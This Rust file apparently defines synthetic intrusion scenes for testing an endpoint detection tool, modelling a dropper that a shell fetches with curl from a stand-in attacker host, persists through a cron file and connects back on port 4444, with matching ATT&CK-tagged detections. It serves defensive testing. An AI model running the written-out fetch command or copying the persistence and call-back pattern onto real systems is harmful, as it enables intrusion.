//! Intrusions as they go.

use quell_wire::activity::{Format, Severity, Source};

use crate::scene::Scene;

/// A person's shell fetches a program; it is run, stays by cron, and talks back.
pub fn dropper() -> Scene {
    let mut scene = Scene::new("e1", "c1", 100);
    scene.run(100, 0, "/usr/bin/bash -i");
    scene.run(101, 100, "/usr/bin/curl -so /tmp/x http://203.0.113.9/x");
    scene.ask(101, "drop.evil.example", [203, 0, 113, 9]);
    scene.connect(101, "203.0.113.9", 80);
    scene.create(101, "/tmp/x", 0x11, Format::Elf);
    scene.end(101);
    let run = scene.run(102, 100, "/tmp/x");
    let cron = scene.create(102, "/etc/cron.d/x", 0x33, Format::Unspecified);
    let back = scene.connect(102, "203.0.113.66", 4444);
    scene.run(103, 102, "/bin/sh -c id");
    scene.detect(run, Source::Yara, Severity::High, "Dropper", &["T1105", "T1059.004"]);
    scene.detect(cron, Source::Behaviour, Severity::Medium, "New cron job", &["T1053.003"]);
    scene.detect(back, Source::Behaviour, Severity::High, "Program of /tmp connects out", &["T1571"]);
    scene
}

/// The same program, started by cron ten minutes later: another tree.
pub fn by_cron() -> Scene {
    let mut scene = Scene::new("e1", "c2", 200).later(600);
    scene.run(200, 0, "/bin/sh -c /tmp/x");
    let run = scene.run(201, 200, "/tmp/x");
    scene.connect(201, "203.0.113.66", 4444);
    for pid in [200, 201] {
        (scene.process(pid).uid, scene.process(pid).login_uid) = (0, None);
        scene.process(pid).user = "root".into();
    }
    scene.detect(run, Source::Behaviour, Severity::High, "Cron runs a program of /tmp", &["T1053.003"]);
    scene
}
